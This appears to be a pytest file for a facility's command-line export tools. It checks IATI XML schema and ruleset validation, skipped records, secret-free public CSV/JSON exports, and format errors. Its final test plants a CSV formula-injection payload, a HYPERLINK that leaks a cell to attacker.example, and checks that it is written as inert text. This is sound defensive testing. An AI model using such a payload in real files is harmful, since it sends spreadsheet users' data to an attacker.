"""`facility export iati` and `facility export public` as an operator runs them."""

from __future__ import annotations

import csv
import json
import shutil
from datetime import date, timedelta
from pathlib import Path

import pytest
from lxml import etree
from sqlmodel import Session
from typer.testing import CliRunner

from facility.bootstrap import upgrade
from facility.cli import app
from facility.config import get_settings
from facility.db import make_engine
from facility.exports import iati
from facility.exports.cli import SKIPPED_RECORDS
from facility.offers.models import Offer
from tests.conftest import BACKENDS, _create_postgres_database
from tests.exports.world import SECRET_TEXTS, build_world

SCHEMA = Path(__file__).resolve().parents[1] / "data" / "iati" / "schema-2.03"


@pytest.fixture(scope="module")
def templates(tmp_path_factory):
    """Migrated SQLite files, made once per module: an empty facility and the seeded world."""
    folder = tmp_path_factory.mktemp("export-cli")
    empty, seeded = folder / "empty.db", folder / "seeded.db"
    engine = make_engine(f"sqlite:///{empty}")
    upgrade(engine)
    engine.dispose()  # closing the last connection folds the WAL into the file we copy
    shutil.copy(empty, seeded)
    engine = make_engine(f"sqlite:///{seeded}")
    with Session(engine, expire_on_commit=False) as session:
        world = build_world(session)
        session.commit()
    engine.dispose()
    return {"empty": empty, "seeded": seeded}, world


def _database(templates, which: str, tmp_path: Path, monkeypatch) -> CliRunner:
    path = tmp_path / f"{which}.db"
    shutil.copy(templates[0][which], path)
    monkeypatch.setenv("FACILITY_DATABASE_URL", f"sqlite:///{path}")
    monkeypatch.delenv("FACILITY_IATI_ORGANISATION_ID", raising=False)
    get_settings.cache_clear()
    return CliRunner()


@pytest.fixture
def cli_db(templates, tmp_path, monkeypatch):
    yield _database(templates, "empty", tmp_path, monkeypatch), None
    get_settings.cache_clear()


@pytest.fixture
def seeded(templates, tmp_path, monkeypatch):
    yield _database(templates, "seeded", tmp_path, monkeypatch), templates[1]
    get_settings.cache_clear()


def test_export_iati_writes_a_valid_file(seeded, tmp_path, monkeypatch):
    runner, world = seeded
    monkeypatch.setenv("FACILITY_IATI_ORGANISATION_ID", "XM-DAC-41313")
    get_settings.cache_clear()
    out = tmp_path / "out" / "activities.xml"
    result = runner.invoke(app, ["export", "iati", "--output", str(out), "--schema", str(SCHEMA)])
    assert result.exit_code == 0, result.output
    assert "3 offers and 4 engagements" in result.output and "valid against the schema" in result.output
    assert "passing IATI's Standard Ruleset" in result.output
    assert iati.schema_errors(out.read_bytes(), SCHEMA) == []
    root = etree.parse(str(out)).getroot()
    assert root.xpath("//iati-identifier/text()")[0] == f"XM-DAC-41313-OFFER-{world.offers['norad_pub'].id}"


def test_export_iati_needs_the_organisation_identifier_and_writes_nothing_without(seeded, tmp_path):
    runner, _ = seeded
    out = tmp_path / "activities.xml"
    result = runner.invoke(app, ["export", "iati", "--output", str(out)])
    assert result.exit_code == 1
    assert "FACILITY_IATI_ORGANISATION_ID" in result.output
    assert not out.exists()
    result = runner.invoke(app, ["export", "iati", "--output", str(out), "--organisation-id", "not an id"])
    assert result.exit_code == 1 and "is not an IATI organisation identifier" in result.output
    assert not out.exists()


def test_a_file_that_would_not_validate_is_not_written(seeded, tmp_path, monkeypatch):
    runner, _ = seeded
    out = tmp_path / "activities.xml"
    out.write_bytes(b"the previous file")
    real = iati.serialise

    def broken(document):
        root = document.getroot()
        root[0].remove(root[0].find("reporting-org"))
        return real(document)

    monkeypatch.setattr(iati, "serialise", broken)
    result = runner.invoke(app, ["export", "iati", "--output", str(out), "--organisation-id",
                                 "XM-DAC-41313", "--schema", str(SCHEMA)])
    assert result.exit_code == 1
    assert "would not validate" in result.output and "reporting-org" in result.output
    assert out.read_bytes() == b"the previous file"


def _committed_world_with(backend: str, templates, tmp_path_factory, change) -> tuple[str, int, object]:
    """A committed database of the test world on `backend`, its Norad offer changed by `change`
    straight in the database (data the offer form refuses): (url, offer id, drop)."""
    if backend == "sqlite":
        path = tmp_path_factory.mktemp("broken") / "seeded.db"
        shutil.copy(templates[0]["seeded"], path)
        url, drop, world = f"sqlite:///{path}", (lambda: None), templates[1]
        engine = make_engine(url)
    else:
        url, drop = _create_postgres_database()
        engine = make_engine(url)
        upgrade(engine)
        with Session(engine, expire_on_commit=False) as session:
            world = build_world(session)
            session.commit()
    offer_id = world.offers["norad_pub"].id
    with Session(engine) as session:
        offer = session.get(Offer, offer_id)
        change(offer)
        session.add(offer)
        session.commit()
    engine.dispose()
    return url, offer_id, drop


@pytest.fixture(scope="module", params=BACKENDS)
def broken_window(request, templates, tmp_path_factory):
    """The world whose Norad offer has a window ending before it starts. The XSD accepts the
    file it makes; IATI's date_order rule does not."""
    def change(offer):
        offer.window_end = offer.window_start - timedelta(days=1)
    url, offer_id, drop = _committed_world_with(request.param, templates, tmp_path_factory, change)
    yield url, offer_id
    drop()


@pytest.fixture(scope="module", params=BACKENDS)
def far_window(request, templates, tmp_path_factory):
    """The world whose Norad offer (with an engagement) runs to 9999-12-31, as it could be
    posted before dates were bounded: its yearly budget periods run past year 9999."""
    def change(offer):
        offer.window_end = date(9999, 12, 31)
    url, offer_id, drop = _committed_world_with(request.param, templates, tmp_path_factory, change)
    yield url, offer_id
    drop()


def test_a_record_that_cannot_be_written_is_skipped_and_reported_and_the_rest_published(
        far_window, tmp_path, monkeypatch):
    url, offer_id = far_window
    monkeypatch.setenv("FACILITY_DATABASE_URL", url)
    get_settings.cache_clear()
    out = tmp_path / "activities.xml"
    try:
        result = CliRunner().invoke(app, ["export", "iati", "--output", str(out), "--organisation-id",
                                          "XM-DAC-41313", "--schema", str(SCHEMA)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == SKIPPED_RECORDS, result.output
    assert f"skipped XM-DAC-41313-OFFER-{offer_id}: ValueError: year 10000 is out of range" \
        in result.output
    assert "its offer XM-DAC-41313-OFFER-" in result.output  # its engagement went with it
    assert "record(s) skipped (listed above); the file holds the others" in result.output
    activities = etree.parse(str(out)).getroot()
    identifiers = [a.findtext("iati-identifier") for a in activities]
    assert f"XM-DAC-41313-OFFER-{offer_id}" not in identifiers
    assert len([i for i in identifiers if "-OFFER-" in i]) >= 2  # everyone else's offers
    refs = {r.get("ref") for r in activities.iter("related-activity")}
    assert refs <= set(identifiers)  # no child points at a parent left out, nor the reverse


def test_an_export_breaking_the_standard_ruleset_is_refused_with_the_rule_and_the_activity(
        broken_window, tmp_path, monkeypatch):
    url, offer_id = broken_window
    monkeypatch.setenv("FACILITY_DATABASE_URL", url)
    get_settings.cache_clear()
    out = tmp_path / "activities.xml"
    out.write_bytes(b"the previous file")
    try:
        result = CliRunner().invoke(app, ["export", "iati", "--output", str(out), "--organisation-id",
                                          "XM-DAC-41313", "--schema", str(SCHEMA)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 1
    assert "breaks 2 rule(s) of IATI's Standard Ruleset; nothing was written" in result.output
    assert f"XM-DAC-41313-OFFER-{offer_id}: date_order: planned start (activity-date type 1) " \
           "2027-01-01 is after planned end (type 3) 2026-12-31" in result.output
    assert f"XM-DAC-41313-OFFER-{offer_id}: date_order: budget period-start 2027-01-01 is after " \
           "its period-end 2026-12-31" in result.output
    assert out.read_bytes() == b"the previous file"


def test_export_iati_refuses_a_facility_with_nothing_published(cli_db, tmp_path):
    runner, _ = cli_db
    out = tmp_path / "activities.xml"
    result = runner.invoke(app, ["export", "iati", "--output", str(out), "--organisation-id", "XM-DAC-41313"])
    assert result.exit_code == 1 and "nothing to publish" in result.output
    assert not out.exists()
    result = runner.invoke(app, ["export", "iati", "--output", str(out), "--organisation-id",
                                 "XM-DAC-41313", "--schema", str(tmp_path)])
    assert result.exit_code == 1 and "holds no iati-activities-schema.xsd" in result.output


@pytest.mark.parametrize("format", ["csv", "json"])
def test_export_public_writes_only_public_data(seeded, tmp_path, format):
    runner, world = seeded
    result = runner.invoke(app, ["export", "public", "--format", format, "--output", str(tmp_path)])
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in tmp_path.iterdir() if p.suffix == f".{format}")
    assert names == sorted(f"{n}.{format}" for n in ("offers", "decisions", "criteria"))
    for path in tmp_path.glob(f"*.{format}"):
        text = path.read_text(encoding="utf-8")
        for secret in SECRET_TEXTS:
            assert secret not in text, (path.name, secret)
    if format == "csv":
        offers = list(csv.DictReader((tmp_path / "offers.csv").open(encoding="utf-8")))
    else:
        offers = json.loads((tmp_path / "offers.json").read_text(encoding="utf-8"))["rows"]
    assert sorted(o["title"] for o in offers) == sorted(
        o.title for o in world.offers.values() if o.status != "DRAFT")


def test_export_public_refuses_an_unknown_format(cli_db, tmp_path):
    runner, _ = cli_db
    result = runner.invoke(app, ["export", "public", "--format", "xml", "--output", str(tmp_path / "x")])
    assert result.exit_code == 1 and "--format: 'xml' is not one of csv, json" in result.output
    assert not (tmp_path / "x").exists()


def test_export_public_csv_writes_a_formula_as_text(seeded, tmp_path):
    runner, world = seeded
    engine = make_engine(get_settings().database_url)
    with Session(engine) as session:
        offer = session.get(Offer, world.offers["norad_pub"].id)
        offer.title = '=HYPERLINK("http://attacker.example/?leak="&A2,"Details")'
        session.add(offer)
        session.commit()
    engine.dispose()
    assert runner.invoke(app, ["export", "public", "--format", "csv", "--output",
                               str(tmp_path)]).exit_code == 0
    with (tmp_path / "offers.csv").open(encoding="utf-8", newline="") as handle:
        titles = {o["title"] for o in csv.DictReader(handle)}
    assert """'=HYPERLINK("http://attacker.example/?leak="&A2,"Details")""" in titles
